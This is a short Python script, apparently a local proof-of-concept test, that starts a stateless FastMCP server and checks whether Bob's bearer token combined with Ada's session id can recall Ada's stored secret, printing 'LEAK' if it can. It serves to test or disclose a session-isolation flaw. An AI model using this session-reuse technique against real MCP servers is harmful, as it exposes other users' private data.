"""Without the lab: Bob's token and Ada's session id read Ada's state on a stateless FastMCP. Argument: a port."""

import json
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

port = sys.argv[1]


def call(token: str, session: str, tool: str, **arguments: str) -> str:
    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": tool, "arguments": arguments}}
    headers = {"Authorization": f"Bearer {token}", "Mcp-Session-Id": session, "MCP-Protocol-Version": "2025-11-25"}
    headers |= {"Accept": "application/json, text/event-stream", "Content-Type": "application/json"}
    url = f"http://127.0.0.1:{port}/mcp"
    with urllib.request.urlopen(urllib.request.Request(url, json.dumps(body).encode(), headers)) as answer:
        return answer.read().decode()


server = subprocess.Popen([sys.executable, str(Path(__file__).with_name("server.py")), port, "stateless"])
try:
    while True:
        try:
            call("token-of-ada", "adas-session", "remember", text="the secret of Ada")
            break
        except OSError:
            time.sleep(0.2)
    shown = call("token-of-bob", "adas-session", "recall")
    print(shown)
    print("LEAK" if "the secret of Ada" in shown else "kept apart")
finally:
    server.terminate()
    server.wait()
